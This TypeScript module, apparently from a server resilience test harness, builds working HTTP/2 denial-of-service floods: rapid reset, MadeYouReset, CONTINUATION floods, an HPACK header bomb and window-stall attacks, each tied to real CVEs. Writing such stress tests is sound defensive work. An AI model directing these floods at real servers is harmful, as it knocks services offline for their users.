import { FLAG, frame, number32, REQUEST, TYPE } from '../../fixtures/http2/raw-client.js';
import type { Attack } from './attack.js';
import { flood } from './flood.js';
import { data, opening, reset, wholeCall } from './frames.js';
import { http2Wire } from './wires.js';

const FRAMES_PER_SECOND = 20_000;
const INITIAL_WINDOW_SIZE = 4;

/** A header of 3 KiB into the table, then named again by one byte each time: 3 MiB when it is read. */
const BOMB = Buffer.concat([
  REQUEST,
  Buffer.from('4001787f8117', 'hex'),
  Buffer.alloc(3072, 'a'),
  Buffer.alloc(1000, 0xbe),
]);
const NO_WINDOW = frame(
  TYPE.settings,
  0,
  0,
  Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), number32(0)]),
);
const PIECE = Buffer.alloc(16_384);
/** The beginning of a message of 4 MiB: what the window of a stream takes, and no more. */
const BEGINNING = Buffer.alloc(200 * 1024);
BEGINNING.writeUInt32BE(4 * 1024 * 1024, 1);

const open: Parameters<typeof flood>[0]['open'] = (target) => http2Wire(target);
const frames = { unit: 'frames', perSecond: FRAMES_PER_SECOND, open };

/** Attacks with frames of HTTP/2, inside of the stream. */
export const http2: readonly Attack[] = [
  flood({
    what: 'calls cancelled at once (rapid reset, CVE-2023-44487)',
    unit: 'calls',
    perSecond: 2000,
    open,
    make: (i) => Buffer.concat([wholeCall(2 * i + 1, 'Echo', 10), reset(2 * i + 1)]),
  }),
  flood({
    what: 'calls that have to be reset (MadeYouReset, CVE-2025-8671)',
    unit: 'calls',
    perSecond: 2000,
    open,
    make: (i) =>
      Buffer.concat([
        opening(2 * i + 1, 'Echo'),
        frame(TYPE.windowUpdate, 0, 2 * i + 1, number32(0)),
      ]),
  }),
  flood({
    ...frames,
    what: 'CONTINUATION without end (CVE-2024-27983)',
    make: (i) =>
      i === 0
        ? frame(TYPE.headers, 0, 1, REQUEST)
        : frame(TYPE.continuation, 0, 1, Buffer.from('0000', 'hex')),
  }),
  flood({
    what: 'header bombs',
    unit: 'requests of 3 MiB in 4 KiB',
    perSecond: 500,
    open,
    make: (i) => frame(TYPE.headers, FLAG.endHeaders, 2 * i + 1, BOMB),
  }),
  flood({ ...frames, what: 'settings', make: () => frame(TYPE.settings, 0, 0) }),
  flood({ ...frames, what: 'pings', make: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)) }),
  flood({
    ...frames,
    what: 'empty DATA (CVE-2019-9518)',
    make: (i) => (i === 0 ? opening(1, 'Hold') : frame(TYPE.data, 0, 1)),
  }),
  flood({
    ...frames,
    what: 'credit of one byte',
    make: () => frame(TYPE.windowUpdate, 0, 0, number32(1)),
  }),
  flood({
    what: 'no window for large replies (zero-window stall)',
    unit: 'calls for 64 KiB',
    perSecond: 200,
    wires: 4,
    boundMiB: 160,
    open: async (target) => {
      const wire = await http2Wire(target);
      wire.write(NO_WINDOW);
      return wire;
    },
    make: (i) => wholeCall(2 * i + 1, 'Enlarge'),
  }),
  flood({
    what: 'messages that are never complete',
    unit: 'calls with 200 KiB of 4 MiB',
    perSecond: 200,
    boundMiB: 48 + 256 + 64,
    open,
    make: (i) => Buffer.concat([opening(2 * i + 1, 'Echo'), data(2 * i + 1, BEGINNING)]),
  }),
  flood({
    what: 'more than the window of a call that is not read',
    unit: 'frames of 16 KiB',
    perSecond: 2000,
    boundMiB: 112,
    open,
    make: (i) => Buffer.concat([...(i === 0 ? [opening(1, 'Hold')] : []), data(1, PIECE)]),
  }),
];
